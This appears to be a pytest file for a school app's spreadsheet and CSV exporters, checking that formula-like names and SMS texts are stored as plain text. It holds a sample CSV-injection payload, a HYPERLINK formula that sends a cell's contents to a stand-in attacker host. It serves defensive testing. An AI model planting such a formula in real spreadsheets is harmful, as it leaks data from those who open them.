"""CSV/Excel injection: text that looks like a formula is written as text by every writer."""

from __future__ import annotations

import csv
import datetime as dt

import openpyxl
import pytest

from exporters.record_forms import write_class_roster
from exporters.csv_safe import csv_cell
from exporters.sms_csv import write_sms_csv, write_sms_report
from exporters.templates import write_roster
from exporters.xlsx import atomic_workbook
from mamnon.services.notices import Message, Recipient
from tests.conftest import add_child

HOSTILE = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")'
OTHERS = ("+1+2", "-2+3", "@SUM(1,2)", "=1+1", "\t=1+1")


def _hostile_child(class_id):
    """The service refuses such a name (letters only), so it is put in the way a damaged or hand-edited
    database, or a future free-text field, would have it: the writers must not rely on the form's check."""
    from mamnon.db import database

    child = add_child(class_id, "Trần Thị An", "05/09/2021")
    database.execute_sql("UPDATE child SET full_name = ? WHERE id = ?", (HOSTILE, child.id))


def _cells(path):
    book = openpyxl.load_workbook(path)
    try:
        return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    finally:
        book.close()


def _cell_of(path, text):
    found = [c for c in _cells(path) if c.value == text]
    assert found, f"{text!r} not in {path.name}"
    return found


def test_a_childs_name_like_a_formula_is_a_string_in_the_roster_template(school_db, tmp_path):
    _hostile_child(school_db["Lá 1"])
    path = write_roster(tmp_path / "ds.xlsx", "Lá 1")
    for cell in _cell_of(path, HOSTILE):
        assert cell.data_type == "s"
    assert not any(c.data_type == "f" for c in _cells(path) if isinstance(c.value, str) and "ke-xau" in c.value)


def test_a_childs_name_like_a_formula_is_a_string_in_a_print_form(school_db, tmp_path):
    # the print forms write with ws.write(), which would make "=…" a formula without the workbook option
    _hostile_child(school_db["Lá 1"])
    path = write_class_roster(tmp_path / "lop.xlsx", school_db["Lá 1"])
    for cell in _cell_of(path, HOSTILE):
        assert cell.data_type == "s"


@pytest.mark.parametrize("text", OTHERS)
def test_ws_write_of_formula_like_text_writes_text(tmp_path, text):
    path = tmp_path / "a.xlsx"
    with atomic_workbook(path) as book:
        book.add_worksheet().write(0, 0, text)
    (cell,) = _cells(path)
    assert cell.data_type == "s" and cell.value == text


def _message(name, text):
    r = Recipient(1, "HS00001", name, "Lá 1", "Nguyễn Văn Bố", "Bố", "0912345678")
    return Message(r, text, len(text), 1, "GSM-7")


def test_csv_cells_that_start_a_formula_get_an_apostrophe(tmp_path):
    assert [csv_cell(t) for t in ("=1+1", "+84", "-x", "@a", "\tx", "\rx")] == \
        ["'=1+1", "'+84", "'-x", "'@a", "'\tx", "'\rx"]
    assert [csv_cell(v) for v in ("Nguyễn An", "0912345678", 3, None)] == ["Nguyễn An", "0912345678", 3, None]
    batch = write_sms_csv(tmp_path / "tin.csv", [_message(HOSTILE, "-Họp phụ huynh 8h")], unaccented=False)
    report = write_sms_report(tmp_path / "kiem-tra.csv", [_message(HOSTILE, "Họp phụ huynh")])
    with open(batch, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == ["0912345678", "'-Họp phụ huynh 8h"]
    with open(report, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][:3] == ["0912345678", "HS00001", "'" + HOSTILE]


def test_the_formula_text_reads_back_unchanged_through_the_importer(school_db, tmp_path):
    """Written as text, the name comes back as the same text (and not as a formula's cached value)."""
    from importers.workbook_reader import open_workbook

    _hostile_child(school_db["Lá 1"])
    path = write_roster(tmp_path / "ds.xlsx", "Lá 1", exported_at=dt.datetime(2026, 11, 18, 8, 0))
    book = open_workbook(path)
    names = [r.values.get("full_name") for s in book.sheets.values() for r in s.rows]
    assert HOSTILE in names and book.checksum_ok is True
